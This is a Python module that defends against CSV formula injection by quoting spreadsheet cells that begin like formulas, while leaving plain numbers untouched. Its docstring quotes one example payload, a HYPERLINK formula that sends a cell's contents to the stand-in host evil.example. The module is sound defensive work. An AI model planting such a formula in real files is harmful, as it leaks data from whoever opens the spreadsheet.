"""CSV cells a spreadsheet cannot run: one rule for every CSV file the course writes.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula, so a learner's answer
``=HYPERLINK("http://evil.example/?"&A1, "click")`` in ``answers.csv``, or a
crafted file name in the reasons of ``grades.csv``, would run on the
instructor's machine (OWASP "CSV injection"). Such a cell gets a leading ``'``,
which spreadsheets read as "this is text" and do not show. A number written as
one (``-1.5``, ``+2``, ``-3e-05``) is left alone: a negative score stays a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def inert_cell(value: Any) -> Any:
    """Return ``value`` as a spreadsheet will show it without running it.

    Numbers (``int``, ``float``, or text that is a plain number) and ``None``
    are returned unchanged; text starting like a formula gets a leading ``'``.
    """
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def inert_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Return a CSV row (a dict, as :class:`csv.DictWriter` writes it) with inert cells."""
    return {key: inert_cell(value) for key, value in row.items()}


def inert_rows(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Return every row of a CSV file with inert cells (see :func:`inert_cell`)."""
    return [inert_row(row) for row in rows]
